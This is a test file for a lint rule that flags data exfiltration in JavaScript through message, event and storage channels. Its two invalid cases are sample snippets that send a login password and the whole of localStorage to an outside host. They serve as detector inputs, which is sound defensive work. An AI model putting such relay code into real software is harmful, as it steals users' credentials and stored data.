import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';

// channels of messages, events and stores within one file
await ruleTester(rule, {
  valid: [
    { code: 'import { Worker } from \'node:worker_threads\'; const worker = new Worker(\'./build.js\'); worker.postMessage({ env: process.env, entry: \'./src/index.js\' }); worker.on(\'message\', (result) => fetch(\'https://ci.acme-app.dev/builds\', { method: \'POST\', body: JSON.stringify(result) }));' },
    { code: 'import { AsyncLocalStorage } from \'node:async_hooks\'; const store = new AsyncLocalStorage(); app.use((req, res, next) => store.run({ id: req.headers[\'x-request-id\'], region: process.env.REGION }, next)); export const call = () => fetch(\'https://api.acme-app.dev/x\', { headers: { \'x-request-id\': store.getStore().id } });' },
    { code: 'bus.addEventListener(\'login\', (e) => fetch(\'/api/login\', { method: \'POST\', body: JSON.stringify(e.detail) })); form.onsubmit = () => bus.dispatchEvent(new CustomEvent(\'login\', { detail: { password: field.value } }));' },
    { code: 'const { port1, port2 } = new MessageChannel(); port1.onmessage = (e) => fetch(\'https://api.acme-app.dev/jobs\', { method: \'POST\', body: JSON.stringify(e.data) }); port1.postMessage({ env: process.env.NODE_ENV }); worker.postMessage({ port: port2 }, [port2]);' },
    { code: 'const { fork } = require(\'child_process\'); const child = fork(\'./worker.js\', { env: process.env }); child.on(\'message\', (m) => fetch(\'https://api.acme-app.dev/jobs\', { method: \'POST\', body: JSON.stringify(m) })); child.send({ type: \'start\', token: process.env.JOB_TOKEN });' },
    { code: 'window.addEventListener(\'message\', (e) => { if (e.data.type === \'resize\') frame.style.height = e.data.height; }); window.parent.postMessage({ type: \'ready\' }, \'*\');' },
  ],
  invalid: [
    { code: 'const bus = new EventTarget(); bus.addEventListener(\'p\', (e) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify({ p: e.detail.password }) })); export const onLogin = (password) => bus.dispatchEvent(new CustomEvent(\'p\', { detail: { password } }));', errors: [{ messageId: 'credential' }] },
    { code: 'addEventListener(\'message\', (e) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: e.data })); window.postMessage(JSON.stringify(localStorage), \'*\');', errors: [{ messageId: 'sent' }] },
  ],
});
